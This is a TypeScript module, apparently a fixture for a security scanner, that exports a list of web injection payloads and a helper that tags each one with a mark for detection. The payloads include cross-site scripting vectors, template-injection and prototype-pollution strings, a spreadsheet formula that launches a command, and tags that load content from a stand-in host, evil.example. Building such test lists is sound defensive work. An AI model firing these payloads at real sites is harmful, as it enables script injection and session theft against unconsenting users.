/** What a payload calls where it is run as a program: `lure` stands in every page under attack, and remembers. */
const run = "lure()";

/** Texts that do something wherever one is taken for markup, for an address or for a program; the short ones first. */
export const payloads = [
  `<svg onload=${run}>`,
  `<b onclick=${run}>x`,
  `javascript:${run}`,
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}>`,
  `'><svg onload=${run}>`,
  `<script>${run}</script>`,
  `\${${run}}`,
  `{{${run}}}`,
  `<a href=javascript:${run}>x</a>`,
  `<base href=//evil.example>`,
  `"><script>${run}</script>`,
  `</title></style></textarea><script>${run}</script>`,
  `"><img src=x onerror="${run}">`,
  `' onmouseover='${run}' autofocus onfocus='${run}`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQubHVyZSgpPC9zY3JpcHQ+"></object>`,
  `<style>body{background:url(https://evil.example/a)}</style>`,
  `<link rel=stylesheet href=https://evil.example/b.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `{{constructor.constructor('${run}')()}}`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;img src=x onerror=${run}&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<script>alert(1)</script>`,
  `__proto__`,
  `=cmd|'/c calc'!A1`,
] as const;

/** Those that fit, each with a mark at its end by which it is known again. */
export function payloadsOf(mark: string, longest: number): string[] {
  return payloads.map((text) => text + mark).filter((text) => text.length <= longest);
}
